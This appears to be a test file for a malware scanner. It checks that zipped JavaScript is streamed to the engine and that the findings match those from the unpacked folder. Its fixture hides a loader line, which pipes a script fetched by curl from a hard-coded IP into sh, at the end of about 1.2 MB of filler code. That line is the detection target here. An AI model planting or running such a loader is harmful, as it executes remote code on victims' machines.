// A zip target streams: its big JavaScript entries unpack first and the engine analyses them while the rest unpacks
// (OpenOptions.onFile, Engine.early); the report must be the one the unpacked folder gives.
import assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, it } from 'node:test';
import { scan } from '../../src/index.js';
import { openTarget } from '../../src/targets/index.js';
import { tmp } from './helpers/fixtures.js';
import { buildZip } from './helpers/zip-writer.js';

/** ~1.2 MB of plain bundle-like code, then a loader at its end. */
const BIG = `${'export const v = [1, 2, 3].map((x) => x * 2);\n'.repeat(26_000)}require('child_process').exec('curl -s http://45.61.160.14:1224/p | sh');\n`;

describe('zip targets stream their big code entries to the engine', () => {
  it('a zip target: big code entries unpack first and are reported as they land; the scan equals the unpacked folder scan', async () => {
    const entries = [
      { name: 'app/README.md', data: '# app\n' },
      { name: 'app/src/index.js', data: "import './lib/chart.js';\n" },
      { name: 'app/src/lib/chart.js', data: BIG },
      { name: 'app/package.json', data: '{"name":"app","version":"1.0.0","scripts":{"start":"node src/index.js"}}' },
    ];
    const dir = tmp();
    const zip = join(dir, 'app.zip');
    writeFileSync(zip, buildZip(entries));
    const seen: string[] = [];
    const sizes: number[] = [];
    const t = await openTarget(zip, { onFile: (f) => seen.push(f.rel), onSize: (bytes, files) => sizes.push(bytes, files) });
    try {
      assert.equal(seen[0], 'app/src/lib/chart.js', seen.join(', '));
      assert.deepEqual([...seen].sort(), t.files.map((f) => f.rel));
      assert.deepEqual(sizes, [t.files.reduce((n, f) => n + f.size, 0), 4]);
    } finally {
      await t.cleanup();
    }
    const fromZip = await scan(zip, { threads: 2 });
    const folder = join(dir, 'unzipped');
    for (const e of entries) {
      const p = join(folder, e.name.replace(/^app\//, ''));
      mkdirSync(dirname(p), { recursive: true });
      writeFileSync(p, e.data);
    }
    const fromFolder = await scan(folder, { threads: 2 });
    const key = (r: typeof fromZip) => r.findings.map((f) => `${f.ruleId} ${f.file.replace(/^app\//, '')}:${f.line}`).sort();
    assert.deepEqual(key(fromZip), key(fromFolder));
    assert.ok(key(fromZip).includes('curl-pipe-shell-in-code src/lib/chart.js:26001'), key(fromZip).join('\n'));
    assert.equal(fromZip.verdict, fromFolder.verdict);
  });
});
